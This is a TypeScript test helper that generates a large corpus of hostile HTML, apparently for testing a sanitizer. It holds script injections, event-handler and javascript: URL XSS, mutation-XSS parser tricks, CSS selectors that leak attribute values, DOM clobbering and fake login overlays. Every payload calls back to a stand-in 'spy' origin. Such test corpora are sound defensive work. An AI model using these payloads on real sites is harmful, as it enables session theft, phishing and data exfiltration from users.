/**
 * Markup that tries to run script, to call out, to leave its frame, or to dress up as the shop, by every means that
 * browsers have or had. Every script in it marks the outermost window, so that a run is seen.
 * @param spy an origin whose server counts what reaches it
 * @returns `alone`: markup that may take what stands after it for something else, so that it has to be a book of its own
 */
export function hostileMarkup(spy: string): { together: string[]; alone: string[] } {
  let number = 0
  const url = (ending = 'x') => `${spy}/${++number}.${ending}`
  const run = () => `top.ran=(top.ran||0)+1;parent.ran=1;new Image().src='${url('run')}';alert(1)`
  const inUrl = () => `javascript:${run().replaceAll("'", '%27')}`
  const encoded = (text: string) => Buffer.from(text).toString('base64')
  const page = () => encoded(`<script>${run()}</script>`)

  const scripts = [
    `<script>${run()}</script>`,
    `<script src="${url('js')}"></script>`,
    `<SCRIPT/x SRC=//${spy.slice(7)}/p.js></SCRIPT>`,
    `<scr<script>ipt>${run()}</scr</script>ipt>`,
    `<script type="module">import('${url('mjs')}')</script>`,
    `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${url()}"]}]}</script>`,
    `<script type="importmap">{"imports":{"a":"${url('js')}"}}</script>`,
    `<script><![CDATA[${run()}]]></script>`,
    `<script for=window event=onload>${run()}</script>`,
    `<script>({set/**/$($){_/**/setter=$,_=1}}).$=alert</script>`,
  ]
  const handlers = [
    `<img src=x onerror="${run()}">`,
    `<img/src/onerror="${run()}">`,
    `<svg onload="${run()}"></svg>`,
    `<svg><g onload="${run()}"></g></svg>`,
    `<body onload="${run()}" onpageshow="${run()}" onhashchange="${run()}">`,
    `<div onmouseover="${run()}" onfocusin="${run()}" onclick="${run()}" tabindex=0>Sentuh</div>`,
    `<details open ontoggle="${run()}"><summary onclick="${run()}">Buka</summary>isi</details>`,
    `<p style="animation:a 1s" onanimationstart="${run()}">gerak</p><style>@keyframes a{to{opacity:0}}</style>`,
    `<p style="transition:all 1s" ontransitionrun="${run()}" onanimationend="${run()}">gerak</p>`,
    `<marquee onstart="${run()}" onfinish="${run()}">jalan</marquee>`,
    `<input autofocus onfocus="${run()}"><select autofocus onfocus="${run()}"></select>`,
    `<textarea autofocus onfocus="${run()}"></textarea>`,
    `<x contenteditable autofocus onfocus="${run()}" tabindex=1>x</x>`,
    `<video onloadstart="${run()}" src="${url('mp4')}"><source onerror="${run()}" src="${url('mp4')}"></video>`,
    `<audio autoplay oncanplay="${run()}" onerror="${run()}" src="${url('mp3')}"></audio>`,
    `<iframe onload="${run()}"></iframe>`,
    `<object data="x:x" onerror="${run()}"></object>`,
    `<link rel=stylesheet href="${url('css')}" onload="${run()}" onerror="${run()}">`,
    `<style onload="${run()}"></style>`,
    `<p onbeforematch="${run()}" hidden=until-found>cari</p><p oncontentvisibilityautostatechange="${run()}" style="content-visibility:auto">x</p>`,
    `<button popovertarget=pop>x</button><div popover id=pop onbeforetoggle="${run()}">x</div>`,
    `<math><mi onclick="${run()}" onmouseover="${run()}">x</mi></math>`,
  ]
  const addresses = [
    `<a href="${inUrl()}">tautan</a>`,
    `<a href=" jav\tascript:${run()}">tautan</a>`,
    `<a href="java&#10;script:alert(1)">tautan</a>`,
    `<a href="&#x6a;avascript&colon;alert&lpar;1&rpar;">tautan</a>`,
    `<a href="\u0001javascript:alert(1)">tautan</a>`,
    `<a href="data:text/html;base64,${page()}">tautan</a>`,
    `<a href="vbscript:msgbox(1)">tautan</a>`,
    `<a href="blob:${spy}/a">tautan</a>`,
    `<a href="#" ping="${url('ping')}">tautan</a>`,
    `<a href="/api/auth/logout" target="_top">keluar</a>`,
    `<a href="//${spy.slice(7)}/relative">tautan</a>`,
    '<a href="#%">rusak</a><a href="#%E0%A4%A">rusak</a>',
    `<map name=m><area shape=default href="${inUrl()}"></map><img usemap="#m" src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7">`,
    `<base href="${spy}/"><a href="sub">tautan</a><img src="relatif.png">`,
    `<math href="${inUrl()}"><mi xlink:href="${inUrl()}">x</mi></math>`,
    `<math><maction actiontype="statusline#${inUrl()}" xlink:href="${inUrl()}">x</maction></math>`,
    `<svg><a xlink:href="${inUrl()}"><text>x</text></a></svg>`,
    `<svg><a><animate attributeName=href values="${inUrl()}" /><text>x</text></a></svg>`,
    `<svg><set attributeName=onmouseover to="${run()}" /></svg>`,
    `<svg><use href="data:image/svg+xml;base64,${encoded(`<svg id=x xmlns="http://www.w3.org/2000/svg"><script>${run()}</script></svg>`)}#x"></use></svg>`,
    `<svg><use href="${url('svg')}#x"></use><image href="${url('png')}" /><feImage href="${url('png')}" /></svg>`,
    `<svg><foreignObject><iframe srcdoc="<script>${run()}</script>"></iframe></foreignObject></svg>`,
    `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${run()}</handler></svg>`,
    `<svg><script href="${url('js')}"></script></svg>`,
  ]
  const loads = [
    `<img src="${url('png')}" srcset="${url('png')} 1x, ${url('png')} 2x" sizes="100vw" lowsrc="${url('png')}" longdesc="${url()}">`,
    `<picture><source srcset="${url('png')}"><img src="${url('png')}" loading=eager></picture>`,
    `<img src="data:image/svg+xml;base64,${encoded(`<svg xmlns="http://www.w3.org/2000/svg" onload="${run()}"><image href="${url('png')}"/></svg>`)}">`,
    `<video poster="${url('png')}" controls><track src="${url('vtt')}" default></video>`,
    `<body background="${url('png')}"><table background="${url('png')}"><tr><td background="${url('png')}">x</td></tr></table>`,
    `<iframe src="${url('html')}"></iframe><frame src="${url('html')}"><fencedframe></fencedframe><portal src="${url('html')}"></portal>`,
    `<iframe srcdoc="<script>parent.parent.ran=1</script><img src='${url('png')}'>"></iframe>`,
    `<object data="${url('swf')}"><param name=src value="${url('swf')}"></object><embed src="${url('swf')}">`,
    `<applet code=x archive="${url('jar')}" codebase="${spy}"></applet>`,
    `<link rel=preload as=image href="${url('png')}"><link rel=prefetch href="${url()}"><link rel=modulepreload href="${url('js')}"><link rel=icon href="${url('ico')}"><link rel=dns-prefetch href="${spy}"><link rel=preconnect href="${spy}"><link rel=manifest href="${url('json')}">`,
    `<meta http-equiv=refresh content="0;url=${url()}"><meta http-equiv=refresh content="0;url=data:text/html;base64,${page()}">`,
    `<meta http-equiv=Set-Cookie content="a=b"><meta http-equiv=Content-Security-Policy content="default-src *">`,
    `<form action="${url('form')}" id=f><input name=password type=password autofocus><button>Masuk</button><input type=image src="${url('png')}" formaction="${inUrl()}"></form><button form=f formaction="${url('form')}">Masuk</button>`,
    `<isindex action="${inUrl()}" type=image src="${url('png')}">`,
    `<input type=image src="${url('png')}"><bgsound src="${url('wav')}"><layer src="${url()}"></layer><ilayer src="${url()}"></ilayer>`,
    `<html manifest="${url('manifest')}"><blockquote cite="${url()}">x</blockquote><q cite="${inUrl()}">x</q><ins cite="${url()}">x</ins>`,
    `<xml src="${url('xml')}" id=i></xml><div datasrc="#i" datafld=a dataformatas=html></div>`,
    `<?xml-stylesheet href="${url('xsl')}" type="text/xsl"?><?import namespace="t" implementation="#default#time2"?>`,
    `<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="${url('xml')}"></x:include><p xml:base="${inUrl()}"><a href="#x">x</a></p>`,
  ]
  const styles = [
    `<style>@import url(${url('css')});@import "${url('css')}";body{background:url(${url('png')})}</style>`,
    `<style>@\\69mport "${url('css')}";p{background:u\\72l(${url('png')})}</style>`,
    `<style>@font-face{font-family:a;src:url(${url('woff2')})}*{font-family:a}</style>`,
    `<style>p{background:image-set("${url('png')}" 1x);list-style:url("${url('png')}");cursor:url(${url('png')}),auto;content:url(${url('png')})}</style>`,
    `<style>p::before{content:url("${url('png')}")}p{mask:url(${url('svg')}#a);filter:url(${url('svg')}#a);clip-path:url(${url('svg')}#b);border-image:url(${url('png')}) 1}</style>`,
    `<style>p{background:-webkit-image-set(url(${url('png')}) 1x);background:cross-fade(url(${url('png')}),url(${url('png')}))}</style>`,
    `<style>a[href^="#"]{background:url(${url('leak')})}input[value^=a]{background:url(${url('leak')})}</style>`,
    `<p style="background:url(${url('png')})">x</p><p style="background:\\75rl('${url('png')}')">x</p>`,
    `<p style="background:url(${url('png')}">x</p><p style='background:url(&quot;${url('png')}&quot;)'>x</p>`,
    `<p style="width:expression(${run()});behavior:url(${url('htc')});-moz-binding:url(${url('xml')}#a)">x</p>`,
    `<p style="-o-link:'${inUrl()}';-o-link-source:current">x</p>`,
    '<div style="position:fixed;inset:0;z-index:2147483647;background:white">Sesi Anda berakhir. Masuk lagi.</div>',
    `<style>@namespace url(${url()});@charset "utf-7";@page{background:url(${url('png')})}</style>`,
    `<div style="background:var(--a);--a:url(${url('png')})">x</div><style>:root{--b:url("${url('png')}")}p{background:var(--b)}</style>`,
  ]
  const rereadings = [
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run()}&gt;">`,
    `<svg></p><style><a id="</style><img src=1 onerror=${run()}>">`,
    `<noscript><p title="</noscript><img src=x onerror=${run()}>"></noscript>`,
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run()}>`,
    `<table><a href="${inUrl()}"><td><a href="${inUrl()}">x</a></td></table>`,
    `<template><script>${run()}</script><img src="${url('png')}" onerror="${run()}"></template>`,
    `<div><template shadowrootmode=open><img src="${url('png')}" onerror="${run()}"></template></div>`,
    `<select><noembed></select><script>${run()}</script></noembed>`,
    `<svg><desc><![CDATA[</desc><script>${run()}</script>]]></svg>`,
    `<math><annotation-xml encoding="text/html"><style><img src=x onerror="${run()}"></style></annotation-xml></math>`,
    `<title><img src=x onerror="${run()}"></title><xmp><img src=x onerror="${run()}"></xmp>`,
    `<noframes><img src=x onerror="${run()}"></noframes><noembed><img src=x onerror="${run()}"></noembed>`,
    `<!--><img src=x onerror="${run()}">--><!--[if gte IE 4]><script>${run()}</script><![endif]-->`,
    `<img alt="\`&quot; onerror=${run()} x=\`" src="x:x"><p title="&quot;&gt;&lt;script&gt;${run()}&lt;/script&gt;">x</p>`,
    `+ADw-script+AD4-alert(1)+ADw-/script+AD4-<meta charset=utf-7>`,
    `<a id=body name=attributes></a><form id=documentElement><input name=parentNode><input name=remove></form><img name=querySelectorAll><a id=defaultView></a><a id=getElementById></a>`,
    `<dialog open><h1>Sesi berakhir</h1><form method=dialog action="${url('form')}"><button>Masuk</button></form></dialog>`,
    `${'<b>'.repeat(600)}dalam${'</b>'.repeat(600)}`,
  ]
  const swallowing = [
    `<plaintext><script>${run()}</script>`,
    `<textarea></textarea><script>${run()}</script><textarea>`,
    `<style></style><img src=x onerror="${run()}"><style>`,
    `<!-- <script>${run()}</script> --!><img src=x onerror="${run()}"><!--`,
    `<frameset onload="${run()}"><frame src="${url('html')}"></frameset>`,
    `<?xml version="1.0"?><!DOCTYPE html [<!ENTITY e SYSTEM "${url('dtd')}">]><html xmlns="http://www.w3.org/1999/xhtml"><body onload="${run()}">&e;<script>${run()}</script></body></html>`,
  ]
  return {
    together: [...scripts, ...handlers, ...addresses, ...loads, ...styles],
    alone: [...rereadings, ...swallowing],
  }
}
